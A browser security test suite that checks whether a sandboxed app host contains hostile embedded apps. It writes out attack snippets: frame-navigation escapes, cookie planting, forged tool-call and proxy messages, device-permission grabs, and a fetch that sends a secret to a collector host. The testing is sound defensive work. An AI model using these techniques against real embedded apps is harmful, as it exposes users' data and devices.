/**
 * Hostile apps that try to get out of their frame and origin (attacks.md, part B), in a real browser beside
 * an innocent app of another server. Each test counts only because the same code succeeds uncontained, or
 * because the legitimate version of a forgery works.
 */
import { UI_MIME_TYPE } from "@vitrine/protocol";
import type { Frame, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { Collector, type Target } from "../../../testing/attacks/collector.ts";
import { REACHES, STORAGE } from "../../../testing/attacks/page-cases.ts";
import {
  HOST_SECRET,
  outcome,
  PageStage,
  type Scene,
  SECRET,
  type State,
  watchPage,
} from "../../../testing/attacks/page-stage.ts";
import { fakeUpstream, tool } from "../../../testing/fake-upstream.ts";
import type { HostApi } from "../../../testing/host/host-page.ts";
import { type RawView, rawView } from "../../../testing/host/raw-view.ts";

declare const host: HostApi;
declare const raw: RawView;

let stage: PageStage;
let scene: Scene;
let before: State;
let seen: string[];
/** Another app of the victim's own server, in the same page. */
let sibling: Frame;
/** Another page, opened by {@link openWith}. */
let beside: Page | undefined;
const collector = new Collector();

beforeAll(async () => {
  stage = await PageStage.open();
  scene = await stage.openScene({ warm: true });
  sibling = await stage.stage.mount(scene.page, "sibling");
  seen = watchPage(scene.page);
  before = await stage.stateOf(scene, seen);
});
afterAll(async () => {
  await stage?.close();
  collector.close();
});
// The oracle of every attack: page, addresses, the other app, windows and frames are unchanged.
afterEach(async () => {
  expect(await stage.stateOf(scene, seen)).toEqual(before);
});

const reports = (page: Page, id: string, code: string): Promise<Record<string, unknown>[]> =>
  page.evaluate(
    ([app, wanted]) =>
      (host.log.values("report") as Record<string, unknown>[]).filter(
        (report) => report["id"] === app && report["code"] === wanted,
      ),
    [id, code] as const,
  );
/** All earlier messages of the view have been received. */
const barrier = (view: Frame): Promise<unknown> => view.evaluate(() => raw.ask("ping"));
/** Serves the host page without a policy. */
async function withoutPolicy(page: Page): Promise<void> {
  // A response that Playwright makes has no address space, and may not show frames of this machine.
  await page.context().grantPermissions(["local-network-access"]);
  await page.route(`${stage.stage.origin}/`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, headers: { "content-type": "text/html" } });
  });
}
/** A new page for one test, with a single app in it. */
async function openWith(name: string): Promise<{ page: Page; view: Frame }> {
  const page = await openBeside();
  await stage.show(page);
  return { page, view: await stage.stage.mount(page, name) };
}
async function openBeside(): Promise<Page> {
  beside ??= await stage.stage.openPage();
  return beside;
}

describe("an app reaches for", () => {
  const free = new Map<string, string>();
  beforeAll(async () => {
    const uncontained = await stage.openFree();
    for (const { title, attack } of REACHES) free.set(title, await outcome(uncontained.attacker, attack));
    await uncontained.page.close();
  });

  it("the victim's window, although it can be found", async () => {
    const found = await scene.attacker.evaluate(() => [top?.length, top?.[0]?.length, top?.[0] === parent]);
    expect(found).toEqual([1, 1, false]);
  });

  for (const { id, title, attack } of REACHES)
    it(`attack ${id}: ${title}, and gets nothing`, async () => {
      expect(free.get(title)).toMatch(/^got .*secret/);
      const got = await outcome(scene.attacker, attack);
      expect(got).toMatch(/^(Security|Type|Reference)Error$/);
    });

  for (const { id, title, attack } of STORAGE)
    it(`attack ${id}: ${title} of another server's app, and finds its own`, async () => {
      expect(await outcome(sibling, attack)).toContain(SECRET);
      const got = await outcome(scene.attacker, attack);
      expect(got).not.toContain(SECRET);
      expect(got).not.toContain(HOST_SECRET);
    });

  it("attack B13: cookies of a wider domain, and sets none", async () => {
    await scene.attacker.evaluate(() => {
      const [, label = ""] = location.hostname.split(".");
      const bake = (text: string): void => {
        Object.assign(document, { cookie: `${text}; SameSite=None; Secure` });
      };
      bake("own=1");
      for (const domain of ["localhost", ".localhost", `${label}.localhost`])
        bake(`planted=1; domain=${domain}`);
    });
    // The control: its own are kept, including that of its own label.
    expect(await scene.attacker.evaluate(() => document.cookie)).toBe("own=1; planted=1");
    expect(await scene.victim.evaluate(() => document.cookie)).toBe(`secret=${SECRET}`);
    expect(await scene.page.evaluate(() => document.cookie)).toBe(`host=${HOST_SECRET}`);
  });

  it("attack B12: the history of the page, and navigates nothing", async () => {
    const page = await stage.stage.context.newPage();
    await page.goto(`${stage.free.origin("free")}/victim`);
    await page.goto(stage.stage.origin);
    await page.waitForFunction(() => "host" in globalThis);
    const view = await stage.stage.mount(page, "attacker", { consent: "deny" });
    await view.evaluate(() => {
      history.back();
      history.go(-1);
      history.go(-history.length + 1);
      Object(globalThis)
        .navigation?.back?.()
        .finished?.catch(() => {});
    });
    await barrier(view);
    // Navigation does not go through the wire: any navigation has happened once another page has left and
    // come back.
    const control = await stage.stage.context.newPage();
    await control.goto(`${stage.free.origin("free")}/victim`);
    await control.goto(`${stage.free.origin("free")}/`);
    const away = control.waitForURL("**/victim");
    await control
      .frames()
      .find((frame) => frame.url().endsWith("/attacker"))
      ?.evaluate(() => Object(parent.parent).history.back())
      // The frame is removed with the page, maybe before it can answer.
      .catch(() => {});
    await away;
    await barrier(view);
    expect(page.url()).toBe(`${stage.stage.origin}/`);
    await Promise.all([page.close(), control.close()]);
  });
});

describe("an app moves", () => {
  it("attack B14: another app's frame or the page elsewhere, and may not", async () => {
    const moved = await outcome(scene.attacker, () => {
      const tried: string[] = [];
      const windows: (Window | null | undefined)[] = [top, parent, top?.[0], top?.[0]?.[0]];
      for (const target of windows)
        for (const url of ["about:blank", "data:text/html,x", "javascript:document.title='moved'", "/x"])
          try {
            if (target) target.location = url;
            tried.push(`moved ${url}`);
          } catch (error) {
            tried.push((error as Error).name);
          }
      for (const target of ["_top", "_parent", "victim-view", "_unfencedTop"]) {
        const link = Object.assign(document.createElement("a"), { href: "about:blank", target });
        document.body.append(link);
        link.click();
        const form = Object.assign(document.createElement("form"), { action: "about:blank", target });
        document.body.append(form);
        form.submit();
      }
      return tried.filter((each) => each !== "SecurityError");
    });
    expect(moved).toBe("got ");
    await barrier(scene.attacker);
    await barrier(scene.victim);
    // The control: uncontained, each of them navigates.
    const shown = await stage.stage.context.newPage();
    const goes = async (attack: string, at: string): Promise<void> => {
      const free = await stage.openFree(shown);
      const frame = free.page.frames().find((each) => new URL(each.url()).pathname === at);
      const from = frame?.url();
      // A script has navigated it when the title or text says so.
      const isMoved = async (): Promise<boolean | undefined> =>
        attack.includes("javascript:")
          ? frame?.evaluate(() => [document.title, document.body.textContent].includes("moved"))
          : frame?.url() !== from;
      expect(await isMoved()).toBe(false);
      // The sandbox of these pages, for another attack, applies to the next load.
      await free.attacker.evaluate(() => {
        for (const proxy of [top?.[0], top?.[1]])
          proxy?.document.querySelector("iframe")?.removeAttribute("sandbox");
      });
      // Its own document may be gone before it can answer.
      await free.attacker.evaluate(attack).catch(() => {});
      await expect.poll(isMoved, { message: `${attack} of ${at}` }).toBe(true);
    };
    const windows = {
      top: "/",
      parent: "/proxy-of-attacker",
      "top[0]": "/proxy-of-victim",
      "top[0][0]": "/victim",
    };
    for (const [target, at] of Object.entries(windows)) {
      await goes(`${target}.location = "about:blank"`, at);
      await goes(`${target}.location = "/x"`, at);
      await goes(`${target}.location = "javascript:document.title='moved'"`, at);
      // No page lets itself be replaced by one of these.
      if (target !== "top") await goes(`${target}.location = "data:text/html,x"`, at);
    }
    const targets = { _top: "/", _parent: "/proxy-of-attacker", "victim-view": "/victim" };
    for (const [target, at] of Object.entries(targets)) {
      const add = (tag: string, more: string): string =>
        `document.body.appendChild(Object.assign(document.createElement("${tag}"), { target: "${target}", ${more} }))`;
      await goes(`${add("a", 'href: "about:blank"')}.click()`, at);
      await goes(`${add("form", 'action: "about:blank"')}.submit()`, at);
    }
    await shown.close();
  });

  it.each([
    ["about:blank", "location.href = 'about:blank'"],
    ["a data: document", "location.href = 'data:text/html,' + page"],
    ["a blob: document", "location.href = URL.createObjectURL(new Blob([page], { type: 'text/html' }))"],
    ["another page of its own origin", "location.href = '/elsewhere'"],
    ["another view of its own server", "location.href = other"],
    ["another site", "location.href = elsewhere"],
    ["another site, in a host page without any policy", "location.href = elsewhere"],
  ])("attack A23: itself to %s, and does not keep the channel", async (title, script) => {
    const target = await collector.listen(`moved-${title.replace(/\W+/g, "-")}`);
    // Wherever it navigates, it keeps sending messages as the view.
    const page = `<script>setInterval(() => parent.postMessage({ jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "look" } }, "*"), 20)</script>`;
    collector.show(target, page);
    await stage.serve("second", { server: "attacker", html: page });
    const second = await stage.stage.sandbox.sandbox.register({ server: "attacker", html: page });
    const other = second.viewOrigin + new URL(second.src).pathname;
    const words = { page, other, elsewhere: `${target.http}/page` };
    const declare = Object.entries(words)
      .map(([name, value]) => `const ${name} = ${JSON.stringify(value).replaceAll("</", "<\\/")};`)
      .join("");
    // Everything was loaded and received before it moves.
    const settle = `await start();
      await ask("tools/call", { name: "look" });
      if (document.readyState !== "complete") await new Promise((resolve) => addEventListener("load", resolve));
      setTimeout(move, 100);`;
    await stage.serve("mover", {
      server: "attacker",
      html: rawView(`const move = () => { ${declare} ${script} }; (async () => { ${settle} })();`),
      upstream: stage.attackerServer,
    });
    const isBare = /without any policy/.test(title);
    const opened = isBare ? await stage.stage.context.newPage() : await openBeside();
    if (isBare) await withoutPolicy(opened);
    await stage.show(opened);
    // The page's policy has no pictures.
    const pictured = opened.evaluate(
      () =>
        new Promise((resolve) => {
          const picture = new Image();
          picture.onload = () => resolve(true);
          picture.onerror = () => resolve(false);
          picture.src = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=";
        }),
    );
    expect(await pictured).toBe(isBare);
    const called = stage.called.length;
    await opened.evaluate(() => host.mount("mover", { consent: "allow" }));
    const failure = await opened.evaluate(() => host.log.until("mover failed"));
    expect(failure, JSON.stringify(failure)).toMatchObject({ code: "navigated-away" });
    expect(await opened.evaluate(() => host.log.names("mover ready"))).toEqual(["mover ready"]);
    // Its frame is gone, nothing was called in its name after it left, and nothing was requested from the
    // other site.
    expect(await opened.locator("#mover iframe").count()).toBe(0);
    expect(stage.called.slice(called)).toEqual(["attacker look"]);
    expect(collector.evidence(target)).toEqual({ requests: [], connections: 0, packets: 0 });
    // The control: its messages are received when a view in its place sends them once.
    await opened.evaluate(() => host.mount("attacker"));
    await opened.evaluate(() => host.log.until("attacker ready"));
    const view = await stage.stage.viewOf(opened, "attacker");
    await view.evaluate((html) => {
      const element = document.createElement("script");
      element.text = html.replace(/<\/?script>/g, "").replace("setInterval", "setTimeout");
      document.body.append(element);
    }, page);
    await expect.poll(() => stage.called.slice(called)).toEqual(["attacker look", "attacker look"]);
    await opened.context().clearPermissions();
    if (isBare) await opened.close();
  });

  it("attack B03: itself to its own page again, and has its sandbox still", async () => {
    const { page, view } = await openWith("attacker");
    await outcome(view, () => frameElement?.removeAttribute("sandbox"));
    await view.evaluate(() => location.reload());
    await page.evaluate(() => host.log.until("attacker ready", 2));
    const again = await stage.stage.viewOf(page, "attacker");
    expect(await outcome(again, () => open("about:blank"))).toBe("got null");
    expect(await outcome(again, () => parent.document.title)).toBe("SecurityError");
  });
});

describe("an app forges", () => {
  it("attack B04, B05: messages that only the proxy may send", async () => {
    const { page, view } = await openWith("attacker");
    const methods = ["resource-ready", "proxy-ready", "proxy-ready", "pong", "started-not", "text", "load"];
    await view.evaluate((all) => {
      const html = "<script>open('about:blank')</script>";
      const params = { html, sandbox: "allow-popups allow-top-navigation", csp: { connectDomains: ["*"] } };
      for (const each of all) {
        const method = `ui/notifications/sandbox-${each}`;
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = () => Object.assign(globalThis, { got: "a port of the host" });
        raw.post({ method, params });
        // To the page itself, with a port that pretends to be the proxy's.
        top?.postMessage({ jsonrpc: "2.0", method, params }, "*", [port2]);
      }
      return raw.ask("ping");
    }, methods);
    // Each forged message type of the proxy; `text` and `load` are the proxy's too.
    const refused = (await reports(page, "attacker", "reserved")).map(({ method }) => method);
    expect(refused).toEqual(methods.map((each) => `ui/notifications/sandbox-${each}`));
    expect(await view.evaluate(() => Object(globalThis).got)).toBeUndefined();
    expect(await view.evaluate(() => open("about:blank") === null)).toBe(true);
    const sandbox = await view.parentFrame()?.evaluate(() => document.querySelector("iframe")?.sandbox.value);
    expect(sandbox).toBe("allow-scripts allow-forms allow-same-origin");
    // The control: the one reserved message that a view may send is received, as the view's.
    await view.evaluate(() => {
      raw.tell("ui/notifications/sandbox-report", { code: "script-error", by: "proxy" });
      return raw.ask("ping");
    });
    expect(await reports(page, "attacker", "script-error")).toMatchObject([{ by: "view" }]);
  });

  it("messages of another app, to its proxy, to its view, to the page", async () => {
    await scene.page.evaluate(() => host.log.clear());
    const called = stage.called.length;
    await scene.attacker.evaluate(() => {
      const call = { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "pay" } };
      const targets: (Window | null | undefined)[] = [top, top?.[0], top?.[0]?.[0]];
      for (const target of targets) {
        for (let id = 1; id < 50; id++) {
          target?.postMessage({ ...call, id }, "*");
          target?.postMessage(JSON.stringify({ ...call, id }), "*");
          target?.postMessage({ jsonrpc: "2.0", id, result: { content: [] } }, "*");
        }
        target?.postMessage({ jsonrpc: "2.0", method: "ui/notifications/request-teardown" }, "*");
        target?.postMessage({ jsonrpc: "2.0", method: "ui/notifications/tool-input", params: {} }, "*");
        const report = { code: "navigated-away" };
        const method = "ui/notifications/sandbox-report";
        target?.postMessage({ jsonrpc: "2.0", method, params: report }, "*");
      }
    });
    await barrier(scene.attacker);
    // The control, and the barrier: the victim's own request is done, and gets its own answer.
    const paid = await scene.victim.evaluate(() => raw.ask("tools/call", { name: "pay" }));
    expect(paid).toMatchObject({ content: [{ text: "pay of victim" }] });
    expect(stage.called.slice(called)).toEqual(["victim pay"]);
    expect(await scene.page.evaluate(() => host.log.names("report", "odd", "victim failed"))).toEqual([]);
    expect(await scene.victim.evaluate(() => raw.heard.map(({ method }) => method))).not.toContain(
      "ui/notifications/tool-input",
    );
  });

  it.each(["srcdoc", "about:blank", "declared"])("itself in a %s frame inside it", async (kind) => {
    const target = await collector.listen(`nested-${kind.replace(/\W/g, "")}`);
    const script = `<script>
      const call = { jsonrpc: "2.0", id: 7, method: "tools/call", params: { name: "look" } };
      for (const target of [top, parent.parent, parent])
        for (const message of [call, JSON.stringify(call), { ...call, id: 1, result: {}, method: undefined }])
          target.postMessage(message, "*");
      parent.postMessage("posted", "*");
    </script>`;
    collector.show(target, script);
    await stage.serve("nests", {
      server: "attacker",
      upstream: stage.attackerServer,
      html: rawView("start();"),
      meta: { csp: { frameDomains: [target.http] } },
    });
    const { view } = await openWith("nests");
    const called = stage.called.length;
    const posted = await view.evaluate(
      ([how, html, src]) =>
        new Promise((resolve) => {
          addEventListener("message", ({ data }) => data === "posted" && resolve(true));
          const frame = document.createElement("iframe");
          if (how === "srcdoc") frame.srcdoc = html;
          if (how === "declared") frame.src = src;
          document.body.append(frame);
          if (how !== "about:blank" || !frame.contentDocument) return;
          const element = frame.contentDocument.createElement("script");
          element.text = html.replace(/<\/?script>/g, "");
          frame.contentDocument.body.append(element);
        }),
      [kind, script, `${target.http}/page`] as const,
    );
    expect(posted).toBe(true);
    await barrier(view);
    expect(stage.called.slice(called)).toEqual([]);
    // The control: the view's own request is done.
    await view.evaluate(() => raw.ask("tools/call", { name: "look" }));
    expect(stage.called.slice(called)).toEqual(["attacker look"]);
  });
});

describe("a server hands over", () => {
  let control: Page | undefined;
  afterAll(() => control?.close());

  it.each([
    ["a script before everything", ""],
    ["a head in a comment", "<!-- <head> -->"],
    ["a head in an attribute", '<p title="<head>">'],
    ["a head in a script", '<script>"<head>"</script>'],
    ["a head in a title", "<title><head></title>"],
    ["a head that is closed at once", "<head></head>"],
    [
      "a policy of its own, wide open",
      `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">`,
    ],
  ])("attack B06: a document with %s, and its policy holds from the first byte", async (title, decoy) => {
    const attempt = async (name: string): Promise<{ html: string; target: Target }> => {
      const target = await collector.listen(`${title.length}.${name}`);
      const script = `globalThis.tried = fetch("${target.http}/?secret", { mode: "no-cors" }).then(() => "sent", () => "blocked")`;
      return { html: `${decoy}<script>${script}</script>${rawView("tried.then(() => start());")}`, target };
    };
    const contained = await attempt("early");
    await stage.serve("early", { server: "attacker", html: contained.html });
    const { view } = await openWith("early");
    expect(await view.evaluate(() => Object(globalThis).tried)).toBe("blocked");
    expect(collector.evidence(contained.target).requests).toEqual([]);
    // The control: from an uncontained page it is sent.
    const free = await attempt("early-free");
    collector.show(free.target, free.html);
    control ??= await stage.stage.context.newPage();
    await control.goto(`${free.target.http}/page`);
    expect(await control.evaluate(() => Object(globalThis).tried)).toBe("sent");
  });

  it("attack B09, B11: permissions of its frame and the user's devices, beyond the granted ones", async () => {
    const meta = {
      permissions: { camera: {}, microphone: {}, geolocation: {}, clipboardWrite: {} },
      sandbox:
        "allow-top-navigation allow-popups-to-escape-sandbox allow-popups allow-modals allow-downloads",
      allow: "camera; usb",
    };
    // A browser with a camera. The user has allowed everything for every site, so only the frame stands in
    // the way.
    const equipped = await PageStage.open({
      args: ["--use-fake-ui-for-media-stream", "--use-fake-device-for-media-stream"],
    });
    onTestFinished(() => equipped.close());
    const { context } = equipped.stage;
    await context.grantPermissions(["camera", "geolocation", "clipboard-read", "clipboard-write"]);
    await context.setGeolocation({ latitude: 52, longitude: 13 });
    const media = (): Promise<string> =>
      navigator.mediaDevices.getUserMedia({ video: true }).then(({ active }) => `camera ${active}`);
    const place = (): Promise<unknown> =>
      new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          ({ coords }) => resolve(`place ${coords.latitude}`),
          ({ code }) => resolve(`code ${code}`),
        ),
      );
    const write = (): Promise<string> => navigator.clipboard.writeText("copied").then(() => "written");
    const read = (): Promise<string> => navigator.clipboard.readText();
    await equipped.serve("wishes", { html: rawView(), meta });
    const page = await equipped.stage.openPage();
    const view = await equipped.stage.mount(page, "wishes");
    // A page without the focus has no clipboard anyway.
    await view.click("p");
    expect(await outcome(view, () => document.hasFocus())).toBe("got true");
    expect(await outcome(view, media)).toBe("NotAllowedError");
    expect(await outcome(view, read)).toBe("NotAllowedError");
    expect(await outcome(view, write)).toBe("NotAllowedError");
    expect(await outcome(view, place)).toBe("got code 1");
    expect(await outcome(view, () => open("about:blank"))).toBe("got null");
    const frames = [page.locator("#wishes iframe"), page.frameLocator("#wishes iframe").locator("iframe")];
    for (const frame of frames) {
      const { sandbox, allow } = await frame.evaluate((each: HTMLIFrameElement) => ({
        sandbox: [...each.sandbox].sort(),
        allow: each.allow,
      }));
      expect(sandbox).toEqual(["allow-forms", "allow-same-origin", "allow-scripts"]);
      expect(allow).toBe("");
    }
    // The control: granted features work, and features that no app is granted work uncontained.
    await equipped.serve("granted", { html: rawView(), meta, grant: () => true });
    await equipped.show(page);
    const granted = await equipped.stage.mount(page, "granted");
    await granted.click("p");
    expect(await outcome(granted, media)).toBe("got camera true");
    expect(await outcome(granted, place)).toBe("got place 52");
    expect(await outcome(granted, write)).toBe("got written");
    expect(await outcome(granted, read)).toBe("NotAllowedError");
    const free = await equipped.openFree();
    await free.attacker.click("#text");
    expect(await outcome(free.attacker, read)).toBe("got copied");
  });

  it.each(["text/html", "image/svg+xml", "text/html;profile=other", undefined])(
    "attack B19: a resource of type %s, and it is refused",
    async (mimeType) => {
      const uri = "ui://typed/view.html";
      const upstream = fakeUpstream({
        "resources/read": () => ({ contents: [{ uri, text: rawView(), ...(mimeType && { mimeType }) }] }),
      });
      await expect(stage.stage.serveTool("typed", upstream, tool("t") as never, uri)).rejects.toMatchObject({
        code: "bad-resource",
      });
      upstream.answers["resources/read"] = () => ({
        contents: [{ uri, text: rawView(), mimeType: UI_MIME_TYPE }],
      });
      expect(await stage.stage.serveTool("typed", upstream, tool("t") as never, uri)).toHaveProperty("src");
    },
  );
});

describe("an attacker's page or app embeds", () => {
  it("attack B16: the victim's pages, and the browser shows neither", async () => {
    const { src, viewOrigin } = await stage.stage.sandbox.sandbox.register({
      server: "victim",
      html: rawView("start();", `<p>${SECRET}</p>`),
    });
    const victims = [src, viewOrigin + new URL(src).pathname];
    const hosts = [...victims.map((url) => new URL(url).origin), stage.free.origin("free")];
    await stage.serve("embeds", { html: rawView(), meta: { csp: { frameDomains: hosts } } });
    const { view } = await openWith("embeds");
    const site = await stage.stage.context.newPage();
    await site.goto(`${stage.free.origin("other")}/attacker`);
    const embed = (frame: Frame | Page, url: string): Promise<unknown> =>
      frame.evaluate(
        (address) =>
          new Promise<void>((resolve) => {
            const element = Object.assign(document.createElement("iframe"), { src: address });
            element.onload = () => resolve();
            document.body.append(element);
          }),
        url,
      );
    for (const url of victims) {
      await embed(view, url);
      await embed(site, url);
    }
    // The control: any other page is shown there.
    await embed(view, `${stage.free.origin("free")}/sw.js`);
    const shown = view.childFrames().map((frame) => frame.url());
    expect(shown.slice(0, 2)).toEqual(Array(2).fill("chrome-error://chromewebdata/"));
    expect(shown[2]).toContain("/sw.js");
    const elsewhere = site.mainFrame().childFrames();
    expect(elsewhere.map((frame) => frame.url())).toEqual(Array(2).fill("chrome-error://chromewebdata/"));
    await site.close();
  });
});
